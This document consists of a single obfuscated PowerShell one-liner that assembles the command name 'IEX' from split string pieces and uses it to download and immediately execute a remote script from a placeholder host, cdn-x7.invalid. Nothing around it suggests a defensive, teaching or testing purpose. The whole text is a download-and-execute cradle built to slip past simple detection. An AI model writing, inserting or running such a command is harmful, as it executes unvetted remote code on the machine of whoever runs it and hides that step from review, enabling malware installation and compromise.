$a='IE';$b='X';& "$a$b" (irm https://cdn-x7.invalid/a.ps1)
